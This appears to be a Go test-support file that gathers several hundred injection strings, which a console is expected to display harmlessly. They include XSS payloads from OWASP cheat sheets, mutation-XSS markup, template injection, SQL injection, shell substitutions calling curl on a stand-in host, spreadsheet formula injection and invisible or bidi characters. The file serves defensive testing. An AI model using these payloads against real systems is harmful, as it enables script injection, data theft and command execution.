package console

import (
	"fmt"
	"slices"
	"strings"
)

// fewestPayloads is how many texts must be shown and do nothing.
const fewestPayloads = 200

// payloads are texts that run, load or hide something where a page takes text for markup, script, a style, an address or a template.
// The kinds are those of OWASP's XSS filter evasion and DOM-based XSS cheat sheets, of the HTML standard's event handlers, and of Unicode's
// UAX #9 and UTS #39.
func payloads() []string {
	all := slices.Concat(tags(), handlers(), foreignContent(), addresses(), templates(), mutations(), encodings(), invisible(), prototypes(), breakouts())
	slices.Sort(all)
	return slices.Compact(all)
}

// away is an address of another host. A request to it fails the tests.
const away = "//evil.example/x"

// tags run, load, or take over the page by their presence.
func tags() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=` + away + `></SCRIPT>`, `<script type=module>import("` + away + `")</script>`, `<script type=importmap>{"imports":{"./app.js":"` + away + `"}}</script>`,
		`<script src=data:,alert(1)></script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script>`, "<script\n>alert(1)</script\n>", `<script>alert(1)//`, `<script async src=` + away + `>`,
		`<img src=x onerror=alert(1)>`, `<img src=` + away + `>`, `<img srcset="` + away + ` 2x">`, `<picture><source srcset=` + away + `><img></picture>`, `<image src=x onerror=alert(1)>`, `<input type=image src=x onerror=alert(1)>`,
		`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`, `<iframe src=` + away + `></iframe>`, `<frameset onload=alert(1)>`, `<object data=` + away + `>`, `<object data="data:text/html,<script>alert(1)</script>">`,
		`<embed src=` + away + `>`, `<embed src=javascript:alert(1)>`, `<applet code=` + away + `>`, `<base href=` + away + `>`, `<link rel=stylesheet href=` + away + `>`, `<link rel=prefetch href=` + away + `>`, `<link rel=preconnect href=https:` + away + `>`,
		`<link rel=modulepreload href=` + away + `>`, `<link rel=manifest href=` + away + `>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;` + away + `">`, `<meta http-equiv=set-cookie content=a=b>`,
		`<style>@import "` + away + `"</style>`, `<style>*{background:url(` + away + `)}</style>`, `<style>body{display:none}</style>`, `<p style="background:url(` + away + `)">`, `<div style="position:fixed;inset:0;z-index:9999">over</div>`,
		`<form action=` + away + `><button>approve</button></form>`, `<button formaction=javascript:alert(1)>end</button>`, `<isindex action=javascript:alert(1)>`, `<template><script>alert(1)</script></template>`,
		`<video src=` + away + ` autoplay>`, `<video poster=` + away + `></video>`, `<audio src=x onerror=alert(1)>`, `<track src=` + away + `>`, `<portal src=` + away + `>`, `<fencedframe src=` + away + `>`, `<slot onslotchange=alert(1)>`,
		`<dialog open>approved</dialog>`, `<plaintext>`, `<xmp><script>alert(1)</script></xmp>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<marquee onstart=alert(1)>x</marquee>`, `<a ping=` + away + ` href=#>x</a>`,
		`<map name=m><area href=javascript:alert(1) shape=default></map>`, `<table background=` + away + `>`, `<body background=` + away + `>`, `<bgsound src=` + away + `>`, `<keygen autofocus onfocus=alert(1)>`,
		`<div popover id=p>x</div><button popovertarget=p>y</button>`, `<details open ontoggle=alert(1)>`, `<div shadowrootmode=open><template shadowrootmode=open><script>alert(1)</script></template></div>`,
	}
}

// handlers are event handler attributes, each on an element that needs no person to fire it, or is one that a person uses.
func handlers() (all []string) {
	for _, on := range strings.Fields("load error focus blur click dblclick auxclick mouseover mouseenter mousemove mousedown mouseup mouseout wheel pointerdown pointerenter pointerover pointerrawupdate " +
		"keydown keypress keyup input beforeinput change select submit reset invalid toggle beforetoggle animationstart animationend animationiteration transitionend transitionrun scroll scrollend resize drag dragstart dragover drop " +
		"copy cut paste contextmenu touchstart gotpointercapture hashchange popstate pageshow pagehide message storage unload beforeunload online beforematch contentvisibilityautostatechange securitypolicyviolation slotchange cancel close") {
		all = append(all, fmt.Sprintf(`<b on%s=alert(1) tabindex=1 autofocus style=animation:x>x`, on))
	}
	return append(all, `" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)`, `x onclick=alert(1)`, "` onerror=alert(1) `", `"><input autofocus onfocus=alert(1)>`, `/onload=alert(1)//`, `<x/onclick=alert(1)>`, "<b\fonclick=alert(1)>", `<b onclick
=alert(1)>`)
}

// foreignContent is SVG and MathML.
func foreignContent() []string {
	return []string{
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script href=` + away + ` /></svg>`, `<svg><script xlink:href=data:,alert(1) /></svg>`, `<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>`, `<svg><image href=` + away + `></svg>`,
		`<svg><use href="` + away + `#x"></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>`, `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`,
		`<svg><style>@import "` + away + `"</style></svg>`, `<svg><filter><feImage href=` + away + `></filter></svg>`, `<svg><title><script>alert(1)</script></title></svg>`, `<svg><discard onbegin=alert(1)>`,
		`<math href=javascript:alert(1)>x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`, `<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>`,
		`<?xml-stylesheet href="` + away + `"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "` + away + `">]>&e;`, `<?php alert(1) ?>`, `<x xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=javascript:alert(1)>`,
	}
}

// addresses run or leave where text becomes a link.
func addresses() []string {
	return []string{
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", ` javascript:alert(1)`, `javascript://%0aalert(1)`, `javascript:/*-/*'/*"/**/alert(1)`, `javascript&colon;alert(1)`,
		`javascript&#58;alert(1)`, `&#106;avascript:alert(1)`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=alert(1)>`,
		`https:` + away, away, `\\evil.example\x`, `/\evil.example/x`, `https://a@evil.example/`, `https://127.0.0.1@evil.example/`, `blob:null/1`, `filesystem:http://127.0.0.1/x`, `view-source:` + away, `about:blank`, `ws:` + away, `mailto:a@evil.example`,
		`../../v1/ends`, `..%2f..%2flocal/calls`, `?code=stolen&state=forged`, `#access_token=stolen`, `#/elevations/../../x`, "%00", `%0d%0aSet-Cookie:a=b`, `%E0%A4%A`, `%`, `;url=` + away,
	}
}

// templates are the markers of template languages and of string interpolation.
func templates() []string {
	return []string{
		`{{constructor.constructor('alert(1)')()}}`, `{{7*7}}`, `${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `[[alert(1)]]`, `{%raw%}<script>alert(1)</script>`, `*{alert(1)}`, `@{alert(1)}`, `{{{<img src=x onerror=alert(1)>}}}`, `%{alert(1)}`, `$(alert(1))`,
		"`${alert(1)}`", `<div v-html="'<img src=x onerror=alert(1)>'">`, `<div ng-app ng-csp><input ng-focus=$event.view.alert(1) autofocus></div>`, `<div x-data x-init=alert(1)>`, `<div hx-get=` + away + ` hx-trigger=load>`, `<a data-bind="click:alert(1)">`, `%s%n%d`, `$&$'$1`, `\u003cimg src=x onerror=alert(1)\u003e`, `\x3cscript\x3ealert(1)\x3c/script\x3e`,
	}
}

// mutations are markup that a parser and its serializer read differently: mutation XSS.
func mutations() []string {
	return []string{
		`<noscript><style></noscript><img src=x onerror=alert(1)>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, "<img alt=\"``onerror=alert(1)\">", `<p style="font-family:'\22\3bx:expression(alert(1))'">`,
		`<select><style></select><img src=x onerror=alert(1)></style>`, `<table><td><select><table></select><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--!><script>alert(1)</script>`, `<![CDATA[><script>alert(1)</script>]]>`,
		`<comment><img src="</comment><img src=x onerror=alert(1)>">`, `<a title="</textarea><script>alert(1)</script>">`, `<title></title><script>alert(1)</script>`, `<xss><!--#exec cmd="alert"--></xss>`, `<b<script>alert(1)</script>`, `<a href="x"title="y"onclick=alert(1)>`,
		`<svg><desc><noembed><img src="</noembed><img src=x onerror=alert(1)>"></desc></svg>`, `<math><style><img src=x onerror=alert(1)></style></math>`, `<noframes><img src="</noframes><img src=x onerror=alert(1)>">`,
	}
}

// encodings are markup in other writings: entities, other widths, UTF-7, overlong escapes.
func encodings() []string {
	return []string{
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`, `&amp;lt;script&amp;gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `%253Cscript%253E`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		"＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", `\74script\76alert(1)`, `&NewLine;javascript&Tab;:alert(1)`, `&#0000106&#0000097&#0000118&#0000097`, "<ſcript>alert(1)</ſcript>", "<ıframe src=javascript:alert(1)>", "<ſvg onload=alert(1)>", `%u003cscript%u003e`, "İ<img src=x onerror=alert(1)>",
	}
}

// invisible are characters that hide, reorder or impersonate text.
func invisible() (all []string) {
	for _, r := range []rune{0x00ad, 0x034f, 0x061c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f,
		0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xe0001, 0xe0041, 0xe007f, 0x1, 0x7, 0x8, 0xb, 0xc, 0x1b, 0x7f, 0x80, 0x85, 0x9b} {
		all = append(all, "read"+string(r)+"only")
	}
	return append(all, "\x1b[31mred\x1b[0m", "\x1b]8;;https:"+away+"\aclick\x1b]8;;\a", "approved\x08\x08\x08\x08\x08\x08\x08\x08denied", "line\r\nline", "a\x00b", "\u202egpj.exe", "аdmin-30m", "admin\u2024"+"30m", strings.Repeat("z\u0335\u0336\u0337\u0338", 40), strings.Repeat("W", 250))
}

// prototypes are names that a JavaScript object has already.
func prototypes() []string {
	return []string{`__proto__`, `constructor`, `prototype`, `toString`, `valueOf`, `hasOwnProperty`, `__defineGetter__`, `__lookupSetter__`, `then`, `length`, `name`, `parent`, `top`, `location`, `document`, `attributes`, `innerHTML`, `nodeName`, `children`, `submit`, `undefined`, `null`, `NaN`, `true`, `-0`, `1e999`, `[object Object]`}
}

// breakouts leave the place that a text stands in: an attribute, a script, a style, JSON, SQL, a shell.
func breakouts() []string {
	return []string{
		`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</script><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</title><img src=x onerror=alert(1)>`, `</textarea><svg onload=alert(1)>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
		`';alert(1);//`, `";alert(1);//`, `\";alert(1);//`, `\'-alert(1)//`, "`;alert(1)//", `*/alert(1)/*`, "\u2028alert(1)//", `});alert(1);({`, `","__proto__":{"x":1},"y":"`, `}*{background:url(` + away + `)`, `expression(alert(1))`, `-moz-binding:url(` + away + `)`, `url(` + away + `)`,
		`' OR '1'='1`, `'; DROP TABLE evidence; --`, "$(curl evil.example)", "`curl evil.example`", `; curl evil.example #`, `=cmd|'/C calc'!A0`, `@SUM(1+1)*cmd`, `+HYPERLINK("https:` + away + `")`,
	}
}
